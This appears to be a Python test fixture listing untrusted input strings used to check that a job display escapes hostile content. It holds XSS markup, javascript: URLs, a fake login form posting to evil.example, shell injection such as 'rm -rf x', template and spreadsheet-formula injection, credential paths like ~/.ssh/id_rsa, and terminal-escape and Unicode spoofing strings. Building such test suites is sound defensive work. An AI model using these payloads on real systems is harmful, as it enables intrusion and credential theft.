r"""
What others may write into a job: each of these texts would do something if it were taken for more than a text.

Whatever runs sets ``window.__x``, opens a dialog, asks a host or changes the page; the tests look for all four.
"""

from __future__ import annotations

RUN = "window.__x=1"

_MARKUP = {
    "img": f'<img src=x onerror="{RUN}">',
    "script": f"<script>{RUN}</script>",
    "svg": f"<svg/onload={RUN}>",
    "iframe": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "math": f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "mutation": f'<math><mtext></form><style><img src=x onerror="{RUN}">',
    "template": f"<template><img src=x onerror={RUN}></template>",
    "object": "<object data='http://evil.example/o'></object><embed src='http://evil.example/e'>",
    "base": "<base href='http://evil.example/'>",
    "meta": "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "link": "<link rel=stylesheet href=http://evil.example/s.css>",
    "form": "<form action=http://evil.example/><input autofocus name=password><button>Sign in</button></form>",
    "video": f"<video><source onerror={RUN}></video>",
    "details": f"<details open ontoggle={RUN}>",
    "command": "<button data-commandlinker-command='terminal:create-new'>click</button>",
    "anchor": "<a href='https://evil.example'>Sign in</a>",
}
_BREAKS = {
    "double quote": f'"><b onmouseover="{RUN}"',
    "single quote": f"' onfocus={RUN} autofocus x='",
    "backtick": f"`onmouseover={RUN}`",
    "entities": "&quot;&gt;&lt;img src=x&gt;&#x3c;img src=x onerror=alert(1)&#x3e;",
    "NUL in a tag": f"<im\x00g src=x onerror={RUN}>",
    "UTF-7": "+ADw-script+AD4-window.__x=1+ADw-/script+AD4-",
    "end of script": f"</script><img src=x onerror={RUN}>",
    "end of style": f"</style><img src=x onerror={RUN}>",
    "end of title": f"</title></textarea></select></noscript><img src=x onerror={RUN}>",
    "end of CDATA": f"]]><img src=x onerror={RUN}>",
    "end of comment": f"--><img src=x onerror={RUN}>",
    "comment": "<!-- <!-- ",
    "end of SVG": f"</text></svg><img src=x onerror={RUN}>",
    "end of cell": "</td></tr></table></div></section><h3>Status</h3>",
    "full width": f"＜img src=x onerror={RUN}＞ ‹script›",
}
_LINKS = {
    "javascript": f"javascript:{RUN}",
    "JavaScript in between": f"\tJaVa\nScRiPt:{RUN}",
    "data URL": f"data:text/html,<script>parent.{RUN}</script>",
    "vbscript": "vbscript:MsgBox(1)",
    "file URL": "file:///etc/passwd",
    "no scheme": "//evil.example/x",
    "user in URL": "https://console.huaweicloud.com@evil.example/",
    "quote in URL": f'https://e.example/"onmouseover="{RUN}',
    "path": "/etc/hostname",
    "home": "~/.ssh/id_rsa",
    "loopback URL": "http://127.0.0.1:1/leak",
    "Markdown link": f"[x](javascript:{RUN}) ![](http://evil.example/?q) <http://evil.example>",
    "Markdown block": "```\n# title\n<img src=x onerror=window.__x=1>\n| a |\n|---|",
}
_LANGUAGES = {
    "plotly link": '<a href="https://evil.example">Sign in</a><br><b>x</b><span style="font-size:80px">y</span>',
    "plotly break": "<br>" * 200,
    "plotly place": "%{customdata} %{y:,} %{x} <extra>x</extra>",
    "TeX": r"$\href{javascript:window.__x=1}{x}$ \(x\)",
    "Jinja": "{{7*7}}{% for x in range(9) %}{{ self.__init__.__globals__ }}{% endfor %}",
    "Python format": "{0.__init__} {} %s %(x)s {name!r:>9999999}",
    "shell": "$(touch x) `touch x` ; rm -rf x | x",
    "formula": '=HYPERLINK("http://evil.example","x")+cmd|\' /C calc\'!A0',
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "prototype": "__proto__",
    "constructor": "constructor",
    "CSS": "</td><style>*{display:none}</style>",
    "style attribute": 'x" style="position:fixed;inset:0;background:red;z-index:9',
    "CSS import": "@import url(http://evil.example/s.css);",
}
_UNSEEN = {
    "clear screen": "\x1b[2J\x1b[H",
    "title of the terminal": "\x1b]0;pwn\x07",
    "terminal link": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "C1 controls": "\x9b2J\x90q\x9c",
    "bells": "\x07" * 50,
    "carriage return": "good\rbad",
    "bidi": "gpj.\u202eexe\u2066x\u2069",
    "zero width": "ad\u200bmin\ufeff\u2060",
    "tags": "x\U000e0041\U000e0042",
    "fillers": "\u3164\u115f\u2800\xad",
    "tower": "Z" + "\u0315\u0300\u036f" * 300,
    "surrogate": "\ud800x",
    "line ends": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "many lines": "x\n" * 60,
    "forged row": "x\nState   Completed\n\nStatus\n======",
    "long word": "W" * 3_000,
}
PAYLOADS = {**_MARKUP, **_BREAKS, **_LINKS, **_LANGUAGES, **_UNSEEN}
